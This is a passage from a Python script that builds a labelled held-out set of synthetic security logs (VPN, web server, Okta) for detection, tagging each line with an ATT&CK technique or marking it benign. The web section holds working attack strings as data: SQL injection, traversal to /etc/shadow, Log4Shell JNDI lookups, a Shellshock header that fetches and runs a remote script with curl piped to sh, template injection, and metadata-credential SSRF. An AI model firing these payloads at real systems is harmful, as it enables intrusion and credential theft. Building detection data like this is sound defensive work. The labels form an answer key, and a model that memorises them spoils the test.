    add(s, b3164(362, "duo-proxy-01", "authproxy", "[duoauthproxy.lib.log] Duo authentication returned 'deny': 'Push request denied' for user 'c.dubois' [client 172.16.0.60] (VPN RADIUS, src 90.84.22.17)", pid=False), None, "a single accidental push denial")
    add(s, jv(370, zpa=True, event="session.start", user="e.sato@nwind.example", src_ip="126.12.77.40", country="JP", outcome="success", app="erp.nwind.internal:443", connector="zpa-connector-dc1"), None, "ZPA app session")
    add(s, jv(375, zpa=True, event="session.end", user="e.sato@nwind.example", src_ip="126.12.77.40", country="JP", outcome="success", app="erp.nwind.internal:443", bytes_rx=2231122, bytes_tx=112331), None, "ZPA app session end")
    add(s, asa(380, "4-722051", "Group <AnyConnect-Staff> User <r.achebe> IP <102.89.40.12> IPv4 Address <10.99.8.77> assigned to session"), None, "normal AnyConnect session")
    add(s, b3164(385, "ovpn-01", "openvpn", "d.fontaine/86.12.40.9:51234 SIGTERM[soft,remote-exit] received, client-instance exiting"), None, "OpenVPN disconnect")


def web():
    s = "web-access"
    FF = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0"
    ED = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0"

    def clf(sec):
        return t(sec).strftime("%d/%b/%Y:%H:%M:%S +0000")

    def ngx(sec, ip, req, st, size, ref="-", ua=FF, rt=None, xff=None):
        # log_format main_ext: combined + request_time upstream_response_time "xff"
        rt = rt if rt is not None else round(R.uniform(0.002, 0.4), 3)
        return f'{ip} - - [{clf(sec)}] "{req}" {st} {size} "{ref}" "{ua}" {rt} {rt if st < 500 else "-"} "{xff or "-"}"'

    def vhost(sec, vh, ip, req, st, size, ref="-", ua=ED, user="-"):
        return f'{vh} {ip} - {user} [{clf(sec)}] "{req}" {st} {size} "{ref}" "{ua}"'

    def common(sec, ip, req, st, size, user="-"):
        return f'{ip} - {user} [{clf(sec)}] "{req}" {st} {size}'

    def js(sec, ip, method, uri, st, size, ua=FF, ref="", host="api.nwind.example"):
        return json.dumps({"time": iso(sec), "remote_addr": ip, "remote_user": "", "host": host, "request": f"{method} {uri} HTTP/2.0", "request_method": method, "request_uri": uri,
                           "status": st, "body_bytes_sent": size, "http_referer": ref, "http_user_agent": ua, "request_time": round(R.uniform(0.002, 0.3), 3)}, separators=(",", ":"))
    A = "179.43.180.12"
    add(s, ngx(10, A, "GET /catalog/item?id=7%2527%2520UNION%2520ALL%2520SELECT%2520NULL%252CNULL%252Cversion()--%2520- HTTP/1.1", 200, 3321), "T1190", "double-encoded UNION injection")
    add(s, ngx(11, A, "GET /catalog/item?id=-1+/*!50000UnIoN*/+/*!50000SeLeCt*/+1,2,group_concat(table_name)+from+information_schema.tables--+ HTTP/1.1", 200, 4410), "T1190", "MySQL comment-obfuscated UNION SELECT")
    add(s, vhost(12, "erp.nwind.example:443", A, "GET /reports/view.aspx?rid=1;WAITFOR%20DELAY%20'0:0:5'-- HTTP/1.1", 200, 1822), "T1190", "MSSQL time-based injection")
    add(s, ngx(14, "5.252.177.30", "GET /download?file=%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd HTTP/1.1", 200, 1934), "T1190", "double-encoded traversal to /etc/passwd")
    add(s, common(15, "5.252.177.30", "GET /static/....//....//....//etc/shadow HTTP/1.1", 400, 226), "T1190", "filter-evading traversal sequence")
    add(s, vhost(16, "www.nwind.example:80", "5.252.177.30", "GET /index.php?page=php://filter/convert.base64-encode/resource=../config.php HTTP/1.1", 200, 1208), "T1190", "PHP filter wrapper LFI")
    add(s, ngx(18, "194.165.16.78", "GET /api/v1/health HTTP/1.1", 200, 17, ref="${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://194.165.16.78:1389/o}"), "T1190", "Log4Shell with ${::-x} lookups in the Referer")
    add(s, common(19, "194.165.16.78", "GET /?search=%24%7Bjndi%3Adns%3A%2F%2Fx7k2.194.165.16.78.oast.example%2Fa%7D HTTP/1.1", 200, 5123), "T1190", "URL-encoded Log4Shell DNS callback")
    add(s, vhost(20, "legacy.nwind.example:80", "45.141.215.90", "GET /cgi-bin/status HTTP/1.1", 200, 412, ua="() { :; }; /bin/bash -c \"curl -s http://45.141.215.90/s | sh\""), "T1190", "Shellshock in the User-Agent")
    add(s, ngx(22, "45.141.215.90", "GET /erp/login?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di HTTP/1.1", 400, 435), "T1190", "Spring4Shell class loader manipulation")
    add(s, js(24, "45.141.215.90", "GET", "/api/v2/render?name=%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D", 200, 88), "T1190", "Jinja2 server-side template injection")
    add(s, js(26, "45.141.215.90", "GET", "/api/v2/diag/ping?host=127.0.0.1%0Aid%0A", 200, 212), "T1190", "newline-separated command injection")
    add(s, ngx(30, "91.92.241.10", "POST /wp-content/plugins/hello-dolly/wso.php HTTP/1.1", 200, 14223), "T1505.003", "POST to a WSO webshell dropped in a plugin folder")
    add(s, common(31, "91.92.241.10", "GET /images/.cache.php?c=bHMgLWxhIC92YXIvd3d3 HTTP/1.1", 200, 1120), "T1505.003", "hidden PHP file taking base64 commands in a parameter")
    add(s, js(33, "91.92.241.10", "GET", "/api/v2/preview?url=http://2852039166/latest/meta-data/iam/security-credentials/", 200, 312), "T1552.005", "SSRF to the metadata service written as a decimal IP")
    add(s, js(34, "91.92.241.10", "GET", "/api/v2/preview?url=http%3A%2F%2F%5B%3A%3Affff%3Aa9fe%3Aa9fe%5D%2Flatest%2Fapi%2Ftoken", 200, 56), "T1552.005", "SSRF to the metadata service via an IPv4-mapped IPv6 address")
    add(s, ngx(36, "146.70.117.88", "GET /FUZZ-admin HTTP/1.1", 404, 153, ua="Fuzz Faster U Fool v2.1.0-dev"), "T1595.003", "ffuf wordlist scan")
    add(s, ngx(37, "146.70.117.88", "GET /.aws/credentials HTTP/1.1", 404, 153, ua="gobuster/3.6"), "T1595.003", "gobuster probing for cloud credentials")
    add(s, vhost(38, "www.nwind.example:443", "146.70.117.88", "GET /wp-json/wp/v2/users HTTP/1.1", 200, 812, ua="WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)"), "T1595.002", "WPScan enumerating users")
    add(s, ngx(39, "146.70.117.89", "GET /server-status HTTP/1.1", 403, 199, ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
        "T1595.002", "nuclei template scan")
    for i in range(5):
        add(s, js(50 + i, "103.75.190.22", "POST", "/api/v2/auth/login", 401, 42, ua="python-httpx/0.27.2"), "T1110.004", "automated login API attempts, many 401s in seconds from one client library")
    # benign
    add(s, ngx(200, "198.18.7.44", "GET /search?q=select+comfort+mattress HTTP/2.0", 200, 23110, ref="https://www.nwind.example/"), None, "search with 'select'")
    add(s, ngx(205, "81.2.69.190", "GET /search?q=credit+union+savings HTTP/2.0", 200, 19881, ref="https://www.nwind.example/"), None, "search with 'union'")
    add(s, ngx(210, "81.2.69.190", "GET /search?q=%22O%27Brien%22+family HTTP/2.0", 200, 15220, ref="https://www.nwind.example/"), None, "quoted name with an apostrophe")
    add(s, vhost(215, "www.nwind.example:443", "126.12.77.40", "GET /blog/javascript-alert-dialogs-explained HTTP/1.1", 200, 31122, ref="https://www.bing.com/"), None, "blog slug containing javascript and alert")
    add(s, vhost(220, "www.nwind.example:443", "126.12.77.40", "GET /shop/etc-accessories/passwd-safe-notebook HTTP/1.1", 200, 22331), None, "product slug with etc and passwd")
    add(s, js(225, "198.18.7.44", "GET", "/api/v2/products?filter=color%3Dblack%20or%20white&limit=20", 200, 4412), None, "filter with 'or'")
    add(s, js(230, "198.18.7.44", "POST", "/api/v2/auth/login", 200, 612), None, "single successful login")
    add(s, js(232, "81.2.69.190", "POST", "/api/v2/auth/login", 401, 42, ua=ED), None, "one wrong password, no repeat")
    add(s, ngx(235, "172.16.250.10", "GET /catalog/item?id=7%27%20OR%20%271%27=%271 HTTP/1.1", 200, 3321, ua="Mozilla/5.0 (compatible; Nessus/10.8.3; authorised internal scan)"), None, "approved Nessus web test from the internal scanner subnet")
    add(s, ngx(236, "172.16.250.12", "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, 15012, ua="Mozilla/5.0 (compatible; Rapid7 InsightAppSec; approved DAST scan)"), None, "approved Rapid7 DAST scan from the internal scanner subnet")
    add(s, vhost(237, "erp.nwind.example:443", "172.16.250.11", "GET /reports/view.aspx?rid=../../web.config HTTP/1.1", 404, 1245, ua="Mozilla/5.0 (compatible; Qualys WAS; authorised)"), None, "approved Qualys WAS scan from the internal scanner subnet")
    add(s, ngx(240, "172.20.0.5", "GET /healthz HTTP/1.1", 200, 2, ua="ELB-HealthChecker/2.0", rt=0.001), None, "load balancer health check")
    add(s, ngx(245, "198.18.7.44", "GET /assets/app.9c1f3b.css HTTP/2.0", 200, 48221, ref="https://www.nwind.example/"), None, "static asset")
    add(s, common(250, "157.55.39.12", "GET /sitemap.xml HTTP/1.1", 200, 8812), None, "crawler fetching the sitemap")
    add(s, vhost(255, "www.nwind.example:443", "157.55.39.12", "GET /robots.txt HTTP/1.1", 200, 92, ua="Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"), None, "Bingbot")
    add(s, vhost(260, "intranet.nwind.internal:443", "172.16.12.40", "GET /wiki/Runbooks/Backup-Restore HTTP/1.1", 200, 33120, user="k.olsen"), None, "intranet wiki")
    add(s, common(265, "216.144.250.150", "HEAD / HTTP/1.1", 200, 0), None, "uptime monitor")
    add(s, js(270, "198.18.7.44", "PUT", "/api/v2/cart/items/88123", 204, 0), None, "cart update")
    add(s, js(275, "198.18.7.44", "GET", "/api/v2/orders?status=shipped&sort=-created_at", 200, 2231), None, "order list")
    add(s, ngx(280, "81.2.69.190", "GET /favicon.ico HTTP/2.0", 404, 153), None, "missing favicon")
    add(s, ngx(285, "81.2.69.190", "GET /docs/api/select-fields.html HTTP/2.0", 200, 12441, ref="https://www.nwind.example/docs/"), None, "API documentation page")
    add(s, vhost(290, "legacy.nwind.example:80", "198.18.7.60", "GET /cgi-bin/status HTTP/1.1", 200, 412, ua="Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0"), None, "ordinary request to the same CGI Shellshock targeted")
    add(s, js(295, "172.16.12.51", "GET", "/api/v2/preview?url=https%3A%2F%2Fwww.nwind.example%2Fblog%2Fq4-update", 200, 2231, ua=ED), None, "link preview of our own site")
    add(s, ngx(300, "198.18.7.44", "GET /account/orders?page=2 HTTP/2.0", 200, 8123, ref="https://www.nwind.example/account"), None, "account page")
    add(s, ngx(305, "172.20.0.7", "GET /metrics HTTP/1.1", 200, 20331, ua="Prometheus/2.55.1", rt=0.004), None, "metrics scrape")


def okta():
    s = "okta"

    def ev(sec, etype, actor, ip, result, display, reason=None, target=None, severity="INFO", country="United States", city="Austin", state="Texas", asorg="comcast", isproxy=False,
           debug=None, ua=FF_UA, actor_type="User", session=None, bridge=False):
        e = {"published": iso(sec)[:-4] + "Z", "uuid": guid(), "eventType": etype, "version": "0", "severity": severity, "legacyEventType": None, "displayMessage": display,
             "actor": {"id": "00u" + "%017x" % R.getrandbits(68), "type": actor_type, "alternateId": actor, "displayName": actor.split("@")[0].replace(".", " ").title(), "detailEntry": None},
             "client": {"userAgent": {"rawUserAgent": ua, "os": "Mac OS X" if "Mac" in ua else "Windows", "browser": "FIREFOX" if "Firefox" in ua else "CHROME"}, "zone": "null", "device": "Computer",
                        "id": None, "ipAddress": ip, "geographicalContext": {"city": city, "state": state, "country": country, "postalCode": None, "geolocation": {"lat": round(R.uniform(-50, 60), 4), "lon": round(R.uniform(-120, 140), 4)}}},
             "outcome": {"result": result, "reason": reason},
             "target": target or [],
             "transaction": {"type": "WEB", "id": "aZ" + "%018x" % R.getrandbits(72), "detail": {}},
             "debugContext": {"debugData": debug or {"requestUri": "/idp/idx/identify", "requestId": "aZ" + "%018x" % R.getrandbits(72)}},
             "authenticationContext": {"authenticationProvider": None, "credentialProvider": None, "credentialType": None, "issuer": None, "interface": None, "authenticationStep": 0,
                                       "externalSessionId": session or "idx" + "%020x" % R.getrandbits(80)},
             "securityContext": {"asNumber": R.randint(1000, 65000), "asOrg": asorg, "isp": asorg, "domain": asorg.split()[0].lower() + ".net", "isProxy": isproxy},
             "request": {"ipChain": [{"ip": ip, "geographicalContext": {"city": city, "country": country}, "version": "V4", "source": None}]}}
        if bridge:
            return json.dumps({"version": "0", "id": guid(), "detail-type": "SystemLog", "source": "aws.partner/okta.com/nwind-prod/okta-syslog", "account": ACCT, "time": iso(sec, False),
                               "region": "us-east-2", "resources": [], "detail": e}, separators=(",", ":"))
        return json.dumps(e, separators=(",", ":"))
    U = lambda alt, name: {"id": "00u" + "%017x" % R.getrandbits(68), "type": "User", "alternateId": alt, "displayName": name, "detailEntry": None}
    V = "196.251.70.33"
    for i in range(3):
        add(s, ev(10 + i * 12, "system.push.send_factor_verify_push", "e.sato@nwind.example", V, "SUCCESS", "Push notification sent", country="Netherlands", city="Amsterdam", state="North Holland", asorg="M247 Europe SRL"),
            "T1621", "push after push sent to one user from a hosting provider")
        add(s, ev(16 + i * 12, "user.mfa.okta_verify.deny_push", "e.sato@nwind.example", V, "FAILURE", "User rejected Okta push verify", reason="User rejected Okta push verify", severity="WARN",
                  country="Netherlands", city="Amsterdam", state="North Holland", asorg="M247 Europe SRL"), "T1621", "user keeps denying: MFA fatigue")
    add(s, ev(50, "user.authentication.auth_via_mfa", "e.sato@nwind.example", V, "SUCCESS", "Authentication of user via MFA", country="Netherlands", city="Amsterdam", state="North Holland", asorg="M247 Europe SRL",
              debug={"factor": "OKTA_VERIFY_PUSH", "behaviors": "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, New Country=POSITIVE, Velocity=POSITIVE, New City=POSITIVE}"}),
        "T1621", "push finally accepted for the attacker's session")
    P = "45.61.184.220"
    for i, u in enumerate(["t.ibrahim", "k.olsen", "m.petrov", "s.yamada", "l.moreau"]):
        add(s, ev(100 + i, "user.session.start", f"{u}@nwind.example", P, "FAILURE", "User login to Okta", reason="VERIFICATION_ERROR", severity="WARN", country="United States", city="Ashburn", state="Virginia",
                  asorg="Datacamp Limited", isproxy=True, ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
            "T1110.003", "one proxy address failing passwords for many users")
    add(s, ev(110, "security.threat.detected", "unknown", P, "DENY", "Request from suspicious actor", reason="Password Spray", severity="WARN", country="United States", city="Ashburn", state="Virginia",
              asorg="Datacamp Limited", isproxy=True, actor_type="Client", debug={"threatDetections": "{\"Password Spray\":\"{\\\"ThreatLevel\\\":\\\"HIGH\\\"}\"}", "threatSuspected": "true"}),
        "T1110.003", "ThreatInsight flags the spray")
    adm = "admin.vance@nwind.example"
    B = "103.152.220.40"
    kw = dict(country="Indonesia", city="Jakarta", state="Jakarta", asorg="PT Cloud Hosting Indonesia", isproxy=True)
    add(s, ev(200, "user.session.start", adm, B, "SUCCESS", "User login to Okta", **kw,
              debug={"behaviors": "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, Velocity=POSITIVE}", "risk": "{level=HIGH, reasons=Anomalous Location, Anomalous Device}"}),
        "T1078.004", "admin session from a new country and device with high risk, hours after a US login")
    add(s, ev(210, "user.session.context.change", adm, B, "SUCCESS", "User session context changed", **kw, session="idxSESSIONadmvance0001",
              debug={"contextChangeType": "IP_AND_DEVICE", "previousIp": "198.18.40.15", "previousUserAgent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edg/131.0", "threatSuspected": "true"}),
        "T1550.004", "the admin's existing session cookie replayed from another IP and device")
    add(s, ev(220, "system.idp.lifecycle.create", adm, B, "SUCCESS", "Create IdP", **kw,
              target=[{"id": "0oa" + "%017x" % R.getrandbits(68), "type": "IdentityProvider", "alternateId": "unknown", "displayName": "Azure AD - Partner", "detailEntry": None}]),
        "T1484.002", "new SAML identity provider added from the hijacked admin session")
    add(s, ev(230, "zone.update", adm, B, "SUCCESS", "Update network zone", **kw,
              target=[{"id": "nzo" + "%017x" % R.getrandbits(68), "type": "NetworkZone", "alternateId": "unknown", "displayName": "Corporate Trusted IPs", "detailEntry": None}],
              debug={"gateways": "198.18.40.0/24,103.152.220.0/24"}), "T1556.009", "attacker range added to the trusted zone that skips MFA")
    add(s, ev(240, "policy.rule.update", adm, B, "SUCCESS", "Update policy rule", **kw,
              target=[{"id": "0pr" + "%017x" % R.getrandbits(68), "type": "PolicyRule", "alternateId": "unknown", "displayName": "Admins - require phishing-resistant MFA", "detailEntry": {"policyRuleFactorMode": "1FA"}}]),
        "T1556.006", "admin MFA rule relaxed to one factor")
    add(s, ev(250, "user.mfa.factor.deactivate", adm, B, "SUCCESS", "Reset factor for user", **kw, target=[U("ceo@nwind.example", "CEO"), {"id": "opf1", "type": "Factor", "alternateId": "unknown", "displayName": "Okta FastPass", "detailEntry": None}]),
        "T1556.006", "CEO's FastPass factor removed from abroad")
    add(s, ev(260, "user.lifecycle.create", adm, B, "SUCCESS", "Create okta user", **kw, target=[U("okta.sync.svc@nwind.example", "Okta Sync Svc")]), "T1136.003", "new account created from the hijacked session")
    add(s, ev(265, "user.account.privilege.grant", adm, B, "SUCCESS", "Grant user privilege", **kw, target=[U("okta.sync.svc@nwind.example", "Okta Sync Svc")], debug={"privilegeGranted": "Organization administrator, Application administrator"}),
        "T1098.003", "new account made organization administrator")
    add(s, ev(275, "system.api_token.create", adm, B, "SUCCESS", "Create API token", **kw, target=[{"id": "00T" + "%017x" % R.getrandbits(68), "type": "Token", "alternateId": "unknown", "displayName": "sync", "detailEntry": None}], bridge=True),
        "T1098.001", "API token created from the hijacked session (EventBridge export)")
    add(s, ev(280, "app.oauth2.as.consent.grant", "m.petrov@nwind.example", "172.56.20.14", "SUCCESS", "User granted consent to app", country="United States", city="Dallas", state="Texas", asorg="T-Mobile USA",
              target=[{"id": "0oa" + "%017x" % R.getrandbits(68), "type": "AppInstance", "alternateId": "MailSync Pro", "displayName": "MailSync Pro (unverified publisher)", "detailEntry": None}],
              debug={"grantedScopes": "okta.users.read,okta.groups.read,offline_access"}, bridge=True),
        "T1528", "user consents a directory-read, offline-access scope to an unverified third-party app")
    # benign
    for i, (u, ip, c, city, st, org) in enumerate([("k.olsen", "81.2.69.201", "United Kingdom", "London", "England", "British Telecommunications PLC"),
                                                    ("j.novak", "89.24.11.2", "Czechia", "Prague", "Prague", "O2 Czech Republic"),
                                                    ("s.yamada", "126.209.14.7", "Japan", "Osaka", "Osaka", "SoftBank Corp."),
                                                    ("m.santos", "177.37.80.14", "Brazil", "Recife", "Pernambuco", "Claro S.A."),
                                                    (adm, "198.18.40.15", "United States", "Austin", "Texas", "Nwind Corp")]):
        add(s, ev(400 + i * 13, "user.session.start", f"{u}@nwind.example" if "@" not in u else u, ip, "SUCCESS", "User login to Okta", country=c, city=city, state=st, asorg=org), None, "ordinary login from the user's usual place")
    add(s, ev(470, "user.authentication.sso", "k.olsen@nwind.example", "81.2.69.201", "SUCCESS", "User single sign on to app", country="United Kingdom", city="London", state="England", asorg="British Telecommunications PLC",
              target=[{"id": "0oa1", "type": "AppInstance", "alternateId": "Salesforce.com", "displayName": "Salesforce.com", "detailEntry": {"signOnModeType": "SAML_2_0"}}]), None, "SSO")
    add(s, ev(475, "user.authentication.auth_via_mfa", "j.novak@nwind.example", "89.24.11.2", "SUCCESS", "Authentication of user via MFA", country="Czechia", city="Prague", state="Prague", asorg="O2 Czech Republic", debug={"factor": "OKTA_VERIFY_PUSH"}),
        None, "push accepted first time")
    add(s, ev(480, "user.mfa.okta_verify.deny_push", "m.santos@nwind.example", "177.37.80.14", "FAILURE", "User rejected Okta push verify", reason="User rejected Okta push verify", severity="WARN",
              country="Brazil", city="Recife", state="Pernambuco", asorg="Claro S.A."), None, "one accidental denial")
    add(s, ev(485, "user.session.start", "c.dubois@nwind.example", "90.84.22.17", "FAILURE", "User login to Okta", reason="INVALID_CREDENTIALS", severity="WARN", country="France", city="Lyon", state="Auvergne-Rhone-Alpes", asorg="Orange S.A."),
        None, "a single wrong password")
    add(s, ev(490, "user.mfa.factor.reset_all", "helpdesk.oreyes@nwind.example", "198.18.40.22", "SUCCESS", "Reset all factors for user", target=[U("c.dubois@nwind.example", "C Dubois")], asorg="Nwind Corp",
              debug={"ticket": "INC-77120 lost phone, identity verified by video call"}), None, "help desk resetting factors for a user who lost her phone, from the office, with a ticket")
    add(s, ev(495, "user.mfa.factor.activate", "c.dubois@nwind.example", "90.84.22.17", "SUCCESS", "User set up Okta Verify factor", country="France", city="Lyon", state="Auvergne-Rhone-Alpes", asorg="Orange S.A.",
              target=[U("c.dubois@nwind.example", "C Dubois")]), None, "the user enrolls her new phone")
    add(s, ev(500, "system.api_token.create", "it-admin.dana@nwind.example", "198.18.40.15", "SUCCESS", "Create API token", asorg="Nwind Corp",
              target=[{"id": "00Tnew2026q4", "type": "Token", "alternateId": "unknown", "displayName": "workday-scim-2026Q4", "detailEntry": None}], debug={"changeTicket": "CHG-3318 scheduled SCIM token rotation"}),
        None, "scheduled token rotation by the IT admin (new)")
    add(s, ev(503, "system.api_token.revoke", "it-admin.dana@nwind.example", "198.18.40.15", "SUCCESS", "Revoke API token", asorg="Nwind Corp",
              target=[{"id": "00Told2026q3", "type": "Token", "alternateId": "unknown", "displayName": "workday-scim-2026Q3", "detailEntry": None}], debug={"changeTicket": "CHG-3318 scheduled SCIM token rotation"}),
        None, "scheduled token rotation by the IT admin (old revoked)")
    add(s, ev(510, "user.lifecycle.create", "Workday SCIM", "3.145.22.40", "SUCCESS", "Create okta user", actor_type="PublicClientApp", asorg="Amazon.com", target=[U("r.nakamura@nwind.example", "R Nakamura")], bridge=True),
        None, "HR-driven provisioning (EventBridge export)")
    add(s, ev(515, "group.user_membership.add", "Workday SCIM", "3.145.22.40", "SUCCESS", "Add user to group membership", actor_type="PublicClientApp", asorg="Amazon.com",
              target=[U("r.nakamura@nwind.example", "R Nakamura"), {"id": "00g2", "type": "UserGroup", "alternateId": "unknown", "displayName": "Finance", "detailEntry": None}], bridge=True), None, "department group")
    add(s, ev(520, "application.user_membership.add", "it-admin.dana@nwind.example", "198.18.40.15", "SUCCESS", "Add user to application membership", asorg="Nwind Corp",
              target=[{"id": "0oa3", "type": "AppInstance", "alternateId": "Jira", "displayName": "Jira Cloud", "detailEntry": None}, U("r.nakamura@nwind.example", "R Nakamura")]), None, "app assignment")
    add(s, ev(525, "user.account.update_password", "s.yamada@nwind.example", "126.209.14.7", "SUCCESS", "User update password for Okta", country="Japan", city="Osaka", state="Osaka", asorg="SoftBank Corp."), None, "self-service password change")
    add(s, ev(530, "policy.evaluate_sign_on", "k.olsen@nwind.example", "81.2.69.201", "ALLOW", "Evaluation of sign-on policy", country="United Kingdom", city="London", state="England", asorg="British Telecommunications PLC",
              debug={"behaviors": "{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE, Velocity=NEGATIVE}", "risk": "{level=LOW}"}), None, "low-risk policy evaluation")
    add(s, ev(535, "user.session.end", "k.olsen@nwind.example", "81.2.69.201", "SUCCESS", "User logout from Okta", country="United Kingdom", city="London", state="England", asorg="British Telecommunications PLC"), None, "logout")
    add(s, ev(540, "app.oauth2.as.token.grant.access_token", "svc-reporting", "3.145.22.30", "SUCCESS", "OAuth2 access token is granted", actor_type="PublicClientApp", asorg="Amazon.com"), None, "service client credentials grant")
    add(s, ev(545, "system.org.rate_limit.warning", "system@okta.com", "0.0.0.0", "SUCCESS", "Rate limit warning", actor_type="SystemPrincipal", asorg="Okta", debug={"rateLimitBucketUri": "/api/v1/users", "threshold": "60"}), None, "rate-limit warning from a sync job")
    add(s, ev(550, "user.authentication.verify", "r.nakamura@nwind.example", "198.18.40.30", "SUCCESS", "Verify user identity", asorg="Nwind Corp", bridge=True), None, "first login of the new hire (EventBridge export)")
    add(s, ev(555, "user.session.start", "e.sato@nwind.example", "126.12.77.40", "SUCCESS", "User login to Okta", country="Japan", city="Tokyo", state="Tokyo", asorg="KDDI Corporation"), None, "the real user logging in from home after resetting")


FF_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.7; rv:133.0) Gecko/20100101 Firefox/133.0"

for f in (windows_security, windows_system, sysmon, powershell, linux_syslog, linux_auth, auditd, cloudtrail, kubernetes, firewall, vpn, web, okta):
    f()

with open(os.path.join(HERE, "seen-heldout-1.jsonl"), "w", encoding="utf-8") as out:
    for rec in OUT:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
print(len(OUT), "lines")
